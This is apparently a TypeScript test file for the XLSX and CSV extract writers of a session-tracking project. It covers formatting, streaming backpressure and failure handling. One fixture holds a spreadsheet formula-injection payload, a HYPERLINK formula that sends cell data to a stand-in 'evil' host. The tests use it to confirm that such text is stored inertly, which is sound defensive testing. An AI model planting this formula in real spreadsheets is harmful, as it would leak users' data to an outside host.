import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Readable } from 'node:stream';
import { read, utils } from '@e965/xlsx';
import { DirectoryFileStorage } from '@la-tracker/platform/storage';
import { writeCsvExtract, writeXlsxExtract, type ExtractOutput } from './extract.writer';
import { count, date, money, text, type CellValue } from './sheet';

const columns = [text('Id'), text('Topic'), date('Delivered on'), count('Minutes'), money('Cost')];

const FORMULA = '=HYPERLINK("https://evil/?"&A2,"x")';
const fixture: CellValue[][] = [
  ['S1', 'Budget setting', '2022-05-03', 90, 2_500_00],
  ['S2', FORMULA, '2023-02-28', 60, 197_92],
  ['S3', 'Tea & <biscuits> "quoted"\u0001', null, null, null],
  ['S4', '+44 and @team', '2024-02-29', -15, -12_50],
];

/** A row as a cursor gives it: a little later. */
const later = (row: CellValue[]) => Promise.resolve(row);

async function* rowsOf(rows: CellValue[][]): AsyncGenerator<CellValue[]> {
  for (const row of rows) yield await later(row);
}

async function bytesOf(file: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of file) chunks.push(Buffer.from(chunk as Uint8Array));
  return Buffer.concat(chunks);
}

/** Writes the rows, keeping what the store is given. */
async function written(
  write: typeof writeCsvExtract,
  rows: CellValue[][],
): Promise<{ file: Buffer; byteSize: number; progress: number[] }> {
  let file: Buffer = Buffer.alloc(0);
  const progress: number[] = [];
  const byteSize = await write({
    columns,
    sheetName: 'Sessions',
    rows: rowsOf(rows),
    store: async (stream) => {
      file = await bytesOf(stream);
      return file.length;
    },
    onRows: (n) => progress.push(n),
  });
  return { file, byteSize, progress };
}

/** Rows made on demand, counting how many the writer has read. */
function countedRows(total: number) {
  const counter = { read: 0 };
  async function* rows(): AsyncGenerator<CellValue[]> {
    for (let i = 1; i <= total; i++) {
      counter.read = i;
      // Text that compresses poorly, so the file is large for its rows.
      const topic = `${i}-${(i * 2_654_435_761).toString(36)}-${Math.sin(i).toString(36)}`;
      yield await later([`S${i}`, topic.repeat(4), '2022-06-01', i % 240, i * 37]);
    }
  }
  return { counter, rows: rows() };
}

/** Lets everything already queued run: promise callbacks, I/O callbacks, immediates. */
async function settle(rounds = 50): Promise<void> {
  for (let i = 0; i < rounds; i++) await new Promise((resolve) => setImmediate(resolve));
}

describe('writeXlsxExtract', () => {
  it('writes a workbook SheetJS reads: header, rows, money in pounds, dates as dates, text as text', async () => {
    const { file, byteSize, progress } = await written(writeXlsxExtract, fixture);
    expect(byteSize).toBe(file.length);
    expect(progress.at(-1)).toBe(4);
    const workbook = read(file);
    expect(workbook.SheetNames).toEqual(['Sessions']);
    const sheet = workbook.Sheets.Sessions;
    expect(utils.sheet_to_json(sheet, { header: 1, raw: false })).toEqual([
      ['Id', 'Topic', 'Delivered on', 'Minutes', 'Cost'],
      ['S1', 'Budget setting', '2022-05-03', '90', '2,500.00'],
      ['S2', FORMULA, '2023-02-28', '60', '197.92'],
      ['S3', 'Tea & <biscuits> "quoted"'],
      ['S4', '+44 and @team', '2024-02-29', '-15', '-12.50'],
    ]);
    expect(sheet.E3).toMatchObject({ t: 'n', v: 197.92 });
    // 3 May 2022 is day 44684 counted from 30 December 1899.
    expect(sheet.C2).toMatchObject({ t: 'n', v: 44_684 });
    expect(read(file, { cellDates: true }).Sheets.Sessions.C2.v).toEqual(
      new Date('2022-05-03T00:00:00Z'),
    );
    // A formula a supplier typed is a string cell, never a formula.
    expect(sheet.B3).toMatchObject({ t: 's', v: FORMULA });
    expect(sheet.B3.f).toBeUndefined();
  });

  it('writes a header alone when there are no rows', async () => {
    const { file } = await written(writeXlsxExtract, []);
    expect(utils.sheet_to_json(read(file).Sheets.Sessions, { header: 1 })).toEqual([
      ['Id', 'Topic', 'Delivered on', 'Minutes', 'Cost'],
    ]);
  });

  it('keeps little in hand: while the store reads slowly, or not at all, rows are not read ahead', async () => {
    const ROWS = 10_000;
    const { counter, rows } = countedRows(ROWS);
    let consumed = 0;
    let mostAhead = 0;
    let largestPiece = 0;
    let stalls = 0;
    let file: Buffer = Buffer.alloc(0);
    await writeXlsxExtract({
      columns,
      sheetName: 'Sessions',
      rows,
      store: async (stream) => {
        const chunks: Buffer[] = [];
        for await (const chunk of stream) {
          chunks.push(chunk as Buffer);
          consumed += (chunk as Buffer).length;
          largestPiece = Math.max(largestPiece, (chunk as Buffer).length);
          // Every so often the reader stops for a while: the writer must stop with it.
          if (chunks.length % 5 === 0) {
            const before = counter.read;
            await settle();
            mostAhead = Math.max(mostAhead, counter.read - before);
            stalls += 1;
          }
        }
        file = Buffer.concat(chunks);
        return consumed;
      },
    });
    expect(counter.read).toBe(ROWS);
    expect(stalls).toBeGreaterThan(5);
    // A piece is about 64 KiB of XML compressed, some 190 of these rows, and the stream asks for
    // pieces only while it holds less than its 16 KiB buffer. So while the reader stood still at
    // most a piece or two more was made: never the rest of the file.
    expect(mostAhead).toBeLessThan(500);
    expect(largestPiece).toBeLessThan(64 * 1024);
    expect(consumed).toBeGreaterThan(400 * 1024);
    expect(utils.sheet_to_json(read(file, { dense: true }).Sheets.Sessions)).toHaveLength(ROWS);
  });
});

describe('writeCsvExtract', () => {
  it('writes money with two places and every formula-like text as text', async () => {
    const { file, byteSize, progress } = await written(writeCsvExtract, fixture);
    expect(byteSize).toBe(file.length);
    expect(progress.at(-1)).toBe(4);
    expect(file.toString('utf8')).toBe(
      'Id,Topic,Delivered on,Minutes,Cost\n' +
        'S1,Budget setting,2022-05-03,90,2500.00\n' +
        `S2,"'=HYPERLINK(""https://evil/?""&A2,""x"")",2023-02-28,60,197.92\n` +
        'S3,"Tea & <biscuits> ""quoted""\u0001",,,\n' +
        "S4,'+44 and @team,2024-02-29,-15,-12.50\n",
    );
  });
});

describe.each([
  ['XLSX', writeXlsxExtract],
  ['CSV', writeCsvExtract],
] as const)('%s extract when something fails', (_, write) => {
  const output = (rows: AsyncIterable<CellValue[]>, store: ExtractOutput['store']) => ({
    columns,
    sheetName: 'Sessions',
    rows,
    store,
  });

  it('fails with the store’s error when the store fails before reading, reading no rows', async () => {
    const { counter, rows } = countedRows(10_000);
    const denied = Object.assign(new Error('EACCES: permission denied'), { code: 'EACCES' });
    await expect(write(output(rows, () => Promise.reject(denied)))).rejects.toBe(denied);
    await settle();
    expect(counter.read).toBe(0);
  });

  it('fails at once when the store fails while rows are awaited, and lets go of the rows', async () => {
    // The cursor is slow: its next row comes only when the test says.
    let release!: () => void;
    const waiting = new Promise<void>((resolve) => (release = resolve));
    let stuck = false;
    let closed = false;
    async function* rows(): AsyncGenerator<CellValue[]> {
      try {
        for (let i = 1; i <= 3_000; i++) yield [`S${i}`, 'x'.repeat(200), null, i, i];
        stuck = true;
        await waiting;
        throw new Error('the cursor was closed');
      } finally {
        closed = true;
      }
    }
    const full = Object.assign(new Error('ENOSPC: no space left on device'), { code: 'ENOSPC' });
    const writing = write(
      output(rows(), async (stream) => {
        // The disk fills while the writer waits on the cursor.
        for await (const chunk of stream) {
          expect(chunk).toBeDefined();
          await settle();
          if (stuck) throw full;
        }
        return 0;
      }),
    );
    await expect(writing).rejects.toBe(full);
    expect(closed).toBe(false);
    // The rows' owner closes the cursor; the writer finishes without a stray error.
    release();
    await settle();
    expect(closed).toBe(true);
  });

  it('fails the store with the rows’ error, so it keeps no file', async () => {
    const lost = new Error('Connection terminated unexpectedly');
    async function* rows(): AsyncGenerator<CellValue[]> {
      for (let i = 1; i <= 2_500; i++) yield await later([`S${i}`, 'x'.repeat(100), null, i, i]);
      throw lost;
    }
    const root = await mkdtemp(join(tmpdir(), 'extract-'));
    try {
      const storage = new DirectoryFileStorage(root);
      const writing = write(output(rows(), (file) => storage.putStream('reports/r1', file)));
      await expect(writing).rejects.toBe(lost);
      expect(await storage.exists('reports/r1')).toBe(false);
      expect(await readdir(join(root, '.tmp'))).toEqual([]);
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });

  it('fails with the storage’s own error when it cannot write at all', async () => {
    const root = await mkdtemp(join(tmpdir(), 'extract-'));
    try {
      // A file where the storage's directory should be: it cannot make its directories.
      await writeFile(join(root, 'not-a-directory'), '');
      const storage = new DirectoryFileStorage(join(root, 'not-a-directory'));
      const { counter, rows } = countedRows(5_000);
      await expect(
        write(output(rows, (file) => storage.putStream('reports/r1', file))),
      ).rejects.toMatchObject({ code: expect.stringMatching(/^(ENOTDIR|EEXIST)$/) });
      await settle();
      expect(counter.read).toBe(0);
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });
});
